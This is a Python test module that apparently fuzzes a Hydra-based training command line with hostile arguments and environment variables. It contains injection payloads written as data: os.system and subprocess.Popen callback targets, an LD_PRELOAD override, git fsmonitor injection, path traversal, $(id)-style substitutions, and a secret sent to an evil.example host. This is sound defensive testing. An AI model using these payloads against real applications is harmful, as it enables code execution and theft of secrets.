"""Families of what is typed and of what surrounds it: command lines, environment variables."""

from __future__ import annotations

import random
from collections.abc import Iterator

from tests.conftest import SMALL_NET, TINY
from tests.hostile import odd
from tests.hostile.place import Input

SMALL = (*TINY, *SMALL_NET, "data.num_train=8", "data.num_val=4")
ON_PHOTOS = (
    *(item for item in SMALL if not item.startswith("data")),
    *("data=folder", "data.root=photos", "data.image_size=32", "data.workers=0", "data.batch_size=1"),
)
HYDRA = (
    "hydra.run={dir:@OUT@/made}",
    "hydra.run.dir=@OUT@/made",
    "+hydra.run.dir=@OUT@/made",
    "++hydra.run.dir=@OUT@/made",
    "hydra.output_subdir=@OUT@/made",
    "hydra={run:{dir:@OUT@/made}}",
    "hydra.mode=MULTIRUN",
    "hydra.mode=RUN",
    "hydra.job.chdir=true",
    "hydra.job.name=../../x",
    "hydra.job.config_name=../../x",
    "+hydra.job.env_set.LD_PRELOAD=@OUT@/evil.so",
    "+hydra.job.env_set={GIT_CONFIG_COUNT:1,GIT_CONFIG_KEY_0:core.fsmonitor,GIT_CONFIG_VALUE_0:id}",
    "+hydra.job.env_copy=[HOME]",
    "+hydra.callbacks.x={_target_:torch.utils.collect_env.run,command:'touch @OUT@/pwned'}",
    "+hydra.callbacks.x._target_=os.system",
    "+hydra.callbacks.x={_target_:joblib.load,filename:@OUT@/secret.txt}",
    "hydra/job_logging=default",
    "hydra/job_logging=colorlog",
    "hydra/hydra_logging=default",
    "hydra/job_logging=@OUT@/secret",
    "+hydra.job_logging={version:1,handlers:{f:{class:logging.FileHandler,filename:@OUT@/made}},root:{handlers:[f]}}",
    "hydra.job_logging.handlers.f={class:logging.FileHandler,filename:@OUT@/made}",
    "hydra.hydra_logging={version:1,root:{handlers:[x]},handlers:{x:{'()':os.system,command:'touch @OUT@/pwned'}}}",
    "hydra/launcher=../../evil",
    "hydra/launcher=basic",
    "hydra/sweeper=basic",
    "hydra/sweeper=../sweeper/grid",
    "hydra/help=../../x",
    "hydra.launcher._target_=os.system",
    "hydra.sweeper._target_=subprocess.Popen",
    "hydra.sweeper={_target_:torch.utils.collect_env.run,command:'touch @OUT@/pwned'}",
    "hydra.launcher={_target_:torch.hub.load,repo_or_dir:@OUT@,model:x,source:local}",
    "hydra.sweep.dir=@OUT@/made",
    "hydra.sweep.subdir=../../../outside/made",
    "hydra.searchpath=[file://@OUT@]",
    "hydra.searchpath=[pkg://os]",
    "+hydra.searchpath=[http://127.0.0.1:9/]",
    "hydra.verbose=true",
    "hydra.verbose=[root]",
    "hydra.runtime.output_dir=@OUT@/made",
    "hydra.overrides.task=[a]",
    "hydra.help.template=x",
    "+hydra.nosuch=1",
    "~hydra",
    "~hydra.run",
)
FLAGS = (
    ("--experimental-rerun", "@OUT@/secret.txt"),
    ("--experimental-rerun", "evil.pickle"),
    ("--experimental-rerun=evil.pickle",),
    ("--config-dir", "@OUT@"),
    ("--config-dir", "../../../"),
    ("--config-dir=/dev",),
    ("--config-path", "@OUT@"),
    ("--config-name", "../../evil"),
    ("--config-name", "predict"),
    ("-cn", "@OUT@/secret"),
    ("--package", "x"),
    ("--cfg", "job"),
    ("--cfg", "all"),
    ("--cfg", "hydra", "--resolve"),
    ("--cfg", "job", "--package", "../x"),
    ("--info",),
    ("--info", "all"),
    ("--info", "plugins"),
    ("--hydra-help",),
    ("--run",),
    ("--resolve",),
    ("-sc", "install=bash"),
    ("-sc", "query=bash"),
    ("-m", "sweep.dry_run=true", "optimizer.lr=0.1,0.2"),
    ("-m", "hydra/launcher=basic", "hydra/sweeper=basic", "hydra.sweep.subdir=../../../outside/made"),
    ("--", "x"),
    ("-", "-"),
    ("--nosuch",),
    ("--version", "--help"),
)
GROUPS = (
    *("../../evil", "/evil", "@OUT@/evil", "..", ".", "", "null", "a/../../b", "a\0b", "\x1b[31m", "{}", "[a,b]"),
    *("\u00e9", "x" * 5000, "${oc.env:RUNNER_SECRET}", "resnet18@x", "_base", "default,default", "'../../evil'"),
)
VALUES = (
    ("trainer.epochs=" + "9" * 400,),
    ("trainer.epochs=" + "9" * 5000,),
    ("trainer.epochs=1e400",),
    ("trainer.epochs=-1",),
    ("trainer.epochs=${trainer.epochs}",),
    ("trainer.epochs=${oc.env:RUNNER_SECRET}",),
    ("trainer.epochs=${oc.env:NOSUCH}",),
    ("data.root=${data.root}${data.root}",),
    ("data.root=" + "a" * 90_000 + "://",),
    ("output_dir=${oc.env:RUNNER_SECRET}",),
    ("sweep.storage=postgresql://u:CANARY@127.0.0.1:9/x", "-m"),
    ("sweep.storage=${oc.decode:x}",),
    ("dist.rendezvous=${oc.env:RUNNER_SECRET}.evil.example:29500", "dist.nodes=2", "dist.node_rank=0"),
    ("optimizer.lr=nan",),
    ("optimizer.lr=inf",),
    ("seed=" + "[" * 3000,),
    ("seed=" + "{a:" * 3000,),
    ("seed=" + "(" * 300,),
    ("+" + "a." * 3000 + "b=1",),
    ("+a" + "[0]" * 500 + "=1",),
    ("seed=$(id)",),
    ("++=1",),
    ("=",),
    ("==",),
    ("~",),
    ("~seed",),
    ("~data.root=x",),
    ("@x=1",),
    ("model@evil=resnet18",),
    ("model@_global_=resnet18",),
    ("data.num_train=1e12",),
    ("data.num_train=10000000000000",),
    ("data.num_classes=10000000000",),
    ("data.image_size=1000000",),
    ("data.batch_size=99999999999999999999",),
    ("data.train_transforms=[{name:resize,size:999999}]",),
    ("data.train_transforms=[{_target_:os.system}]",),
    ("data.workers=-5",),
    ("data.workers=99999999",),
    ("data.normalize.std=[0,0,0]",),
    ("model.name=os.system",),
    ("model.name=__import__",),
    ("model.weights=@OUT@/secret.txt",),
    ("model.weights=http://127.0.0.1:9/x.pth",),
    ("model.weights=/dev/zero",),
    ("model.weights=a\0b.pt",),
    ("model.weights=~nosuchuser/a.pt",),
    ("output_dir=a\0b",),
    ("output_dir=~nosuchuser/a",),
    ("output_dir=" + "x" * 300,),
    ("output_dir=/proc/x",),
    ("output_dir=/dev/null",),
    ("seed=\udcff",),
    ("seed=\x1b[2J",),
    ("nosuch\x1b[2J=1",),
    ("seed=glob(*)",),
    ("seed=range(0,1000000000)", "-m"),
    ("seed=choice(1,2)",),
    ("seed=shuffle(range(0,100000000))", "-m"),
    ("seed=range(0,1,0)", "-m"),
    ("optimizer=sgd,adamw",),
    ("dist=slurm",),
    ("dist=slurm", "dist.slurm.setup=['touch @OUT@/pwned']"),
    ("dist=slurm", "dist.slurm.job_name='a\nb'"),
    ("dist.procs_per_node=100000000",),
    ("dist.nodes=3", "dist.rendezvous=nosuch.invalid:1"),
)
COMMANDS = (
    (),
    ("nosuch",),
    ("nosuch\x1b[2J",),
    ("train", "train"),
    ("runs",),
    ("runs", "nosuch"),
    ("runs", "list", "limit=" + "9" * 5000),
    ("runs", "list", "limit=" + "9" * 400),
    ("validate", "--" + "x" * 95_000),
    ("dataset",),
    ("dataset", "../x"),
    ("../train",),
    ("train.py",),
    ("__main__",),
    ("call",),
    ("os",),
    ("validate", "a\0b"),
    ("--help", "nosuch"),
    ("doctor", "--help"),
    ("", ""),
    ("=", "="),
    ("run=x",),
    ("resume",),
    ("resume", "run="),
    ("resume", "run=."),
    ("evaluate", "run=nosuch"),
    ("evaluate", "-m", "run=nosuch,nosuch2"),
    ("predict", "run=nosuch", "input=.", "output=x.csv"),
    ("predict", "input=.", "output=x.exe"),
    ("export", "run=nosuch"),
    ("report", "run=nosuch"),
    ("load_model", "nosuch"),
    ("load_model", "a\0b"),
    ("load_config", "--experimental-rerun", "x"),
    ("load_config", "-m"),
    ("load_config", "experiment=../../evil"),
)
# A path may be typed for each of these.
_TAKES_PATH = (
    ("resume", "run={}"),
    ("evaluate", "run={}"),
    ("evaluate", "run=run", "output={}"),
    ("evaluate", "run=run", "data.root={}", "output=out"),
    ("evaluate", "run=run", "checkpoint={}", "output=out"),
    ("predict", "run={}", "input=photos", "output=x.csv"),
    ("predict", "model=run/model", "input={}", "output=x.csv"),
    ("predict", "run=run", "input=photos", "output={}"),
    ("predict", "run=run", "input=photos", "root={}", "output=x.csv"),
    ("export", "run=run", "format=torchscript", "output={}"),
    ("export", "run={}"),
    ("report", "run={}"),
    ("report", "run=run", "output={}"),
    ("runs", "list", "root={}"),
    ("runs", "diff", "a={}", "b=run"),
    ("runs", "repeat", "run={}"),
    ("dataset", "import", "input={}", "output=out"),
    ("dataset", "import", "input=photos", "output={}"),
    ("dataset", "split", "input={}", "output=out"),
    ("dataset", "split", "input=photos/train", "output={}"),
    ("dataset", "check", "data=folder", "data.root={}", "data.workers=0", "output=out"),
    ("dataset", "show", "data=folder", "data.root=photos", "output={}.png"),
    ("validate", "data=folder", "data.root={}"),
    ("validate", "data=folder", "data.train={}", "data.val=photos/val"),
    ("validate", "data=csv", "data.train={}", "data.val={}"),
    ("validate", "data=folder", "data.root=photos", "data.exclude={}", *SMALL_NET),
    ("validate", "model.weights={}", *SMALL),
    ("validate", "output_dir={}", *SMALL),
    ("load_model", "{}"),
    ("train", "--config-dir", "{}", *SMALL),
)


def _with_runs(place):  # type: ignore[no-untyped-def]
    place.copy("run")
    place.copy("photos")


def table() -> Iterator[Input]:
    """Command lines by what is odd about them."""
    for override in HYDRA:
        yield Input(f"validate {override}", ("validate", *SMALL, override))
        yield Input(f"train {override}", (*SMALL, override))
        yield Input(f"-m {override}", ("-m", *SMALL, "sweep.dry_run=true", "seed=1,2", override))
        yield Input(f"load_config {override}", ("load_config", *SMALL, override))
    for flags in FLAGS:
        yield Input(
            " ".join(flags), (*SMALL, *flags), lambda place: place.write("evil.pickle", odd.TEXTS["pickle"]) and None
        )
        yield Input(f"validate {' '.join(flags)}", ("validate", *SMALL, *flags))
    for option in GROUPS:
        for group in ("experiment", "model", "data", "optimizer", "dist", "hydra/launcher"):
            yield Input(f"{group}={option[:40]}", ("validate", f"{group}={option}"), _evil_group)
    for values in VALUES:
        yield Input(" ".join(values)[:60], ("validate", *SMALL, *values))
        yield Input(f"train {' '.join(values)[:60]}", (*SMALL, *values))
    for words in COMMANDS:
        yield Input(" ".join(words) or "nothing", words if words else ("train", "nosuch=1"))
    for words in _TAKES_PATH:
        is_written = any("output" in word and "{}" in word for word in words)
        # What one types oneself may be anywhere.
        for path in (path for path in odd.PATHS if not (is_written and path.startswith(("..", "~", "/", "@OUT@")))):
            argv = tuple(word.replace("{}", path) for word in words)
            yield Input(f"{' '.join(words)} with {path[:40]!r}", argv, _with_runs)


def _evil_group(place):  # type: ignore[no-untyped-def]
    """What a climbing name would find."""
    text = (
        "# @package _global_\nhydra: {callbacks: {x: {_target_: os.system, command: 'touch @OUT@/pwned'}}}\nevil: 1\n"
    )
    for name in ("evil.yaml", "../evil.yaml"):
        place.write(name, text)


def grown(rng: random.Random) -> Input:
    """A line of the table with some of its characters changed."""
    item = rng.choice(ALL)
    words = [
        odd.noisy(word.encode("utf-8", "surrogateescape"), rng).decode("utf-8", "surrogateescape")
        if rng.random() < 0.3
        else word
        for word in item.argv[1:]
    ]
    if rng.random() < 0.5:
        words.append(rng.choice((*HYDRA, *(value for values in VALUES for value in values))))
    rng.shuffle(words)
    argv = (item.argv[0], *(word.replace("\0", "") for word in words))
    return Input(f"{item.title}, changed", argv, item.prepare)


ALL = tuple(table())

_NAMES = (
    *(
        "RANK",
        "WORLD_SIZE",
        "LOCAL_RANK",
        "MASTER_ADDR",
        "MASTER_PORT",
        "TORCHELASTIC_RUN_ID",
        "SLURM_PROCID",
        "SLURM_NTASKS",
    ),
    *("SLURM_JOB_ID", "SLURM_STEP_ID", "OMPI_COMM_WORLD_RANK", "OMPI_COMM_WORLD_SIZE", "PMI_RANK", "PMI_SIZE"),
    *("AZ_BATCHAI_PYTORCH_INIT_METHOD", "AZ_BATCHAI_TASK_INDEX", "RUNNER_CACHE", "XDG_CACHE_HOME", "HOME", "COLUMNS"),
    *(
        "COMP_LINE",
        "HYDRA_FULL_ERROR",
        "CUDA_VISIBLE_DEVICES",
        "TMPDIR",
        "NO_COLOR",
        "TERM",
        "LANG",
        "TZ",
        "OMP_NUM_THREADS",
    ),
    *("GIT_DIR", "GIT_CONFIG_COUNT", "PYTHONPATH", "MPLBACKEND", "MPLCONFIGDIR", "TORCH_HOME", "SOURCE_DATE_EPOCH"),
)
_SETTINGS = (
    *("", "0", "-1", "1", "99999999999999999999", "nan", "\x1b[2J", "../../outside/made", "@OUT@/made", "/dev/null"),
    *(
        "file://@OUT@/made",
        "tcp://127.0.0.1:9",
        "x" * 10_000,
        "${oc.env:RUNNER_SECRET}",
        "$(touch @OUT@/pwned)",
        "~nosuchuser",
    ),
)


def environment_table() -> Iterator[Input]:
    """Each variable that anything here reads, with odd values."""
    for name in _NAMES:
        for value in _SETTINGS:
            yield Input(f"{name}={value[:40]!r}", ("validate", *SMALL), env={name: value})


def environment_grown(rng: random.Random) -> Input:
    """Several variables at once, and other commands."""
    env = {rng.choice(_NAMES): rng.choice(_SETTINGS) for _ in range(rng.randint(2, 5))}
    argv = rng.choice(
        (
            ("validate", *SMALL),
            SMALL,
            ("runs", "list", "root=."),
            ("report", "run=run"),
            ("evaluate", "run=run", "output=out"),
        )
    )
    return Input(f"{argv[0]} with {env}"[:200], argv, lambda place: place.copy("run") and None, env)
